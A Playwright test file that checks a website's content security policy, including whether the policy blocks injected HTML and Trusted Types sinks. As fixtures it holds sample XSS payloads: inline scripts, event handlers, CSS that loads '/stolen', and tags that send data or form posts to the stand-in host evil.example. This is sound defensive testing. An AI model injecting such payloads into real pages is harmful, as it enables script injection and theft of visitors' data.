/*
 * The content security policy in a browser. Every other test checks it too, since a violation is an error in the console;
 * e2e/export/policy.test.ts checks the policy of each page.
 */

import type { BrowserContext, Page } from '@playwright/test';
import { href } from '@/site/routes';
import { enquiryForm, fillIn, send } from './lib/enquiry';
import { expect, test, translator } from './lib/fixtures';
import { expectPage, flag, navigationLink, others, passWhole } from './lib/visit';

test.use({ contextOptions: { reducedMotion: 'no-preference' } });

/** Collects the violations in every document and frame from now on. */
async function watchViolations(context: BrowserContext): Promise<readonly string[]> {
  const violations: string[] = [];
  await context.exposeFunction('reportViolation', (violation: string) => {
    violations.push(violation);
  });
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sourceFile, documentURI } = event;
      const report = Reflect.get(window, 'reportViolation');
      report(`${effectiveDirective}: ${blockedURI} (${sourceFile ?? ''} on ${documentURI})`);
    });
  });
  return violations;
}

/** Changes the HTML of Contacts from its next load on. */
async function changeDocument(page: Page, change: (html: string) => string): Promise<void> {
  await page.route('**/contacts/', async (route) => {
    const response = await route.fetch();
    return route.fulfill({ response, body: change(await response.text()) });
  });
}

async function policyOf(page: Page): Promise<string> {
  const policy = page.locator('head > meta[charset]:first-child + meta[http-equiv]');
  return (await policy.getAttribute('content')) ?? '';
}

test.describe('The policy allows', () => {
  // The static suite checks the hashes of every page.
  const entered = 'it';

  test('every page, every language, a send', async ({ page, context, emailjs }) => {
    const violations = await watchViolations(context);
    await page.goto(href(entered, 'services'));

    for (const route of ['about', 'certificates', 'home', 'services', 'contacts'] as const) {
      await navigationLink(page, translator(entered), route).click();
      await expectPage(page, entered, route);
      await passWhole(page);
    }
    for (const locale of [...others(entered), entered] as const) {
      await flag(page, locale).click();
      await expectPage(page, locale, 'contacts');
    }
    const t = translator(entered);
    const form = enquiryForm(page, t);
    await fillIn(form, t);
    await send(form, t);
    await expect(page.getByText(t('EnquiryForm.success'))).toBeVisible();
    expect(emailjs.sent).toHaveLength(1);
    expect(violations).toEqual([]);
  });
});

test.describe('The policy blocks', () => {
  test('without its hash, each inline script and style', async ({ page, context, guard }) => {
    guard.expectConsole(/violates the following Content Security Policy directive/);
    // Errors that follow from a missing script.
    guard.tolerateConsole(/^(?!.*violates)/);
    const violations = await watchViolations(context);
    await page.goto('/contacts/');
    const hashes = (await policyOf(page)).match(/'sha256-[^']+' ?/g) ?? [];
    // Of the early script, the form's loader, the speculation rules and the styles.
    expect(hashes).toHaveLength(4);
    expect(violations).toEqual([]);

    let left = '';
    await changeDocument(page, (html) => html.replace(left, ''));
    for (const [index, hash] of hashes.entries()) {
      left = hash;
      await page.goto('/contacts/');
      await expect.poll(() => violations.length, { message: hash }).toBe(index + 1);
    }
  });

  /** HTML that an attacker might inject, by the directive that refuses it. */
  const injections = {
    'script-src-elem': '<script>document.title = "reached"</script>',
    'script-src-attr': '<img src="/icon.svg" alt="" onload="document.title = \'reached\'">',
    'style-src-elem': '<style>body { background: url(/stolen) }</style>',
    'style-src-attr': '<p style="background: url(/stolen)">.</p>',
    'img-src': '<img src="https://evil.example/?stolen" alt="">',
    'media-src': '<video src="https://evil.example/" preload="auto"></video>',
    'frame-src': '<iframe src="https://evil.example/"></iframe>',
    'object-src': '<object data="/certificates/en/iso-9001.pdf"></object>',
    'base-uri': '<base href="https://evil.example/">',
    'form-action':
      '<form id="evil" action="https://evil.example/" method="post"><button>Send</button></form>',
  } as const;

  test('injected HTML', async ({ page, context, guard }) => {
    guard.allowHost('evil.example');
    guard.tolerateConsole(/Content Security Policy/);
    const violations = await watchViolations(context);
    const injected = Object.values(injections).join('');
    await changeDocument(page, (html) => html.replace('</body>', `${injected}</body>`));
    await page.goto('/contacts/', { waitUntil: 'load' });
    await expect(page).not.toHaveTitle('reached');
    // Playwright waits for the page that the form would lead to.
    await page.locator('#evil button').click({ noWaitAfter: true });

    const refused = () => new Set(violations.map((violation) => violation.split(':')[0]));
    await expect.poll(() => [...refused()].sort()).toEqual(Object.keys(injections).sort());
    expect(page.url()).toMatch(/\/contacts\/$/);
  });

  /** Operations by which a script might execute a visitor's text. */
  const sinks: Readonly<Record<string, () => unknown>> = {
    'HTML from a string': () => {
      document.body.innerHTML = '<img src="x" onerror="alert(1)">';
    },
    'an event handler from a string': () => document.body.setAttribute('onclick', 'alert(1)'),
    'a document from a string': () => document.write('<p>'),
    'a script from a string': () => {
      document.createElement('script').text = 'alert(1)';
    },
    'a script of another place': () => {
      document.createElement('script').src = '/certificates/x.js';
    },
    'a policy of its own': () =>
      window.trustedTypes?.createPolicy('default', { createScriptURL: String }),
  };

  test('each way to make a document or a script of a string: it throws', async ({
    page,
    guard,
  }) => {
    guard.tolerateConsole(/Trusted/);
    await page.goto('/contacts/');
    for (const [name, sink] of Object.entries(sinks)) {
      await expect(page.evaluate(sink), name).rejects.toThrow(/requires 'Trusted|"\w+" disallowed/);
    }
  });
});
